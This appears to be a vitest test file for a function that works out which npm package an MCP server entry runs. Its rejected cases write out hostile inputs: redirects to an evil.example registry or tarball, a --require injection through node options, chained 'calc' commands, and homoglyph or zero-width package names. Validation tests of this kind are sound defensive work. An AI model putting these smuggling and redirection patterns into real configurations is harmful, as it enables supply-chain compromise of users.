import { describe, expect, it } from 'vitest';
import { npmPackageOf } from '../../../src/catalogue/npmPackage';
import type { StdioEntry } from '../../../src/config/mcpConfig';

function entry(line: string, env: StdioEntry['env'] = {}): StdioEntry {
  const [command = '', ...args] = line.split(' ');
  return { type: 'stdio', command, args, env, raw: {} };
}

const plain = { version: undefined, command: undefined, args: [] };

describe('the package of an entry', () => {
  it.each([
    ['npx notes-mcp', { name: 'notes-mcp' }],
    ['npx -y notes-mcp', { name: 'notes-mcp' }],
    ['npx --yes @acme/notes-mcp', { name: '@acme/notes-mcp' }],
    ['npx -y -q --prefer-offline notes-mcp', { name: 'notes-mcp' }],
    ['npx -y -- notes-mcp', { name: 'notes-mcp' }],
    ['npx -y @acme/notes-mcp@1.2.3', { name: '@acme/notes-mcp', version: '1.2.3' }],
    ['npx -y notes-mcp@1.2.3-beta.1', { name: 'notes-mcp', version: '1.2.3-beta.1' }],
    // The registry chooses among the versions, at the time.
    ['npx -y notes-mcp@latest', { name: 'notes-mcp' }],
    ['npx -y notes-mcp@^1.2.3', { name: 'notes-mcp' }],
    ['npx -y notes-mcp@1', { name: 'notes-mcp' }],
    ['npx -y notes-mcp --read-only', { name: 'notes-mcp', args: ['--read-only'] }],
    ['npx -y notes-mcp -- /srv', { name: 'notes-mcp', args: ['--', '/srv'] }],
    // Arguments of the server, whatever they are called.
    ['npx -y notes-mcp --registry=x', { name: 'notes-mcp', args: ['--registry=x'] }],
    ['npx -p notes-mcp notes', { name: 'notes-mcp', command: 'notes' }],
    [
      'npx --package notes-mcp@1.2.3 -- notes',
      { name: 'notes-mcp', version: '1.2.3', command: 'notes' },
    ],
    ['npx -y --package=@acme/notes-mcp notes', { name: '@acme/notes-mcp', command: 'notes' }],
    ['bunx notes-mcp', { name: 'notes-mcp' }],
    ['bunx --bun notes-mcp', { name: 'notes-mcp' }],
    ['bun x notes-mcp', { name: 'notes-mcp' }],
    ['pnpx notes-mcp', { name: 'notes-mcp' }],
    ['pnpm dlx notes-mcp@1.2.3', { name: 'notes-mcp', version: '1.2.3' }],
    ['yarn dlx -q notes-mcp', { name: 'notes-mcp' }],
    ['npm exec notes-mcp', { name: 'notes-mcp' }],
    ['npm exec -y -- notes-mcp --read-only', { name: 'notes-mcp', args: ['--read-only'] }],
    ['npm exec notes-mcp -- --read-only', { name: 'notes-mcp', args: ['--read-only'] }],
    ['npm x --package=notes-mcp -- notes', { name: 'notes-mcp', command: 'notes' }],
    ['npx.cmd -y notes-mcp', { name: 'notes-mcp' }],
    ['cmd /c npx -y notes-mcp', { name: 'notes-mcp' }],
    ['cmd.exe /C npx.cmd -y @acme/notes-mcp@1.2.3', { name: '@acme/notes-mcp', version: '1.2.3' }],
  ])('%s', (line, expected) => {
    expect(npmPackageOf(entry(line))).toEqual({ ...plain, ...expected });
  });

  it.each([
    ['node notes-mcp', 'a program that runs no packages'],
    ['/usr/bin/npx -y notes-mcp', 'a path may lead anywhere'],
    ['./npx -y notes-mcp', 'a program of the workspace'],
    ['notnpx -y notes-mcp', 'a name that ends like the runner’s'],
    ['npx', 'nothing is named'],
    ['npx -y', 'nothing is named'],
    ['npx -y --', 'nothing is named'],
    ['npx -p notes-mcp', 'no command is named'],
    ['npx -p notes-mcp -p other notes', 'either may have the command'],
    ['npx -c notes-mcp', 'a line of a shell'],
    ['npx --call notes-mcp', 'a line of a shell'],
    ['npx --registry=https://evil.example -y notes-mcp', 'another registry'],
    ['npx --registry https://evil.example notes-mcp', 'another registry'],
    ['npx --prefix /tmp notes-mcp', 'another folder'],
    ['npx --node-options=--require=./evil.js notes-mcp', 'an option that is not known'],
    ['npm exec notes-mcp --registry=https://evil.example', 'npm takes it for its own'],
    ['npm exec notes-mcp --package=evil', 'npm takes it for its own'],
    ['npm install notes-mcp', 'not run'],
    ['pnpm notes-mcp', 'a script of the workspace'],
    ['yarn notes-mcp', 'a script of the workspace'],
    ['npx -y notes-mcp@npm:evil@1.0.0', 'an alias of another package'],
    ['npx -y notes-mcp@file:../evil', 'a folder'],
    ['npx -y notes-mcp@https://evil.example/x.tgz', 'an address'],
    ['npx -y acme/notes-mcp', 'a repository'],
    ['npx -y github:acme/notes-mcp', 'a repository'],
    ['npx -y ./notes-mcp', 'a folder'],
    ['npx -y ../notes-mcp', 'a folder'],
    ['npx -y notes-mcp/evil', 'more than a name'],
    ['npx -y @acme/notes-mcp/evil', 'more than a name'],
    ['npx -y Notes-MCP', 'a name that npm does not give any more'],
    ['npx -y n\u043Etes-mcp', 'a letter of another script'],
    ['npx -y notes-mcp\u200B', 'a character that hides'],
    [`npx -y $\{input:server}`, 'a name that is only asked for'],
    ['cmd /k npx -y notes-mcp', 'a shell that stays'],
    ['cmd /c npx -y notes-mcp & calc', 'two commands'],
    ['cmd /c npx -y %SERVER%', 'a variable of the shell'],
    ['cmd /c npx.exe|calc -y notes-mcp', 'two commands'],
    ['sh -c npx', 'a line of a shell'],
  ])('%s has none: %s', (line) => {
    expect(npmPackageOf(entry(line))).toBeUndefined();
  });

  it.each([
    'npm_config_registry',
    'NPM_CONFIG_REGISTRY',
    'YARN_NPM_REGISTRY_SERVER',
    'NODE_OPTIONS',
  ])('is not known where %s may change what is run', (name) => {
    expect(npmPackageOf(entry('npx -y notes-mcp', { [name]: 'x' }))).toBeUndefined();
    expect(npmPackageOf(entry('npx -y notes-mcp', { NOTES_TOKEN: 'x' }))).toBeDefined();
  });
});
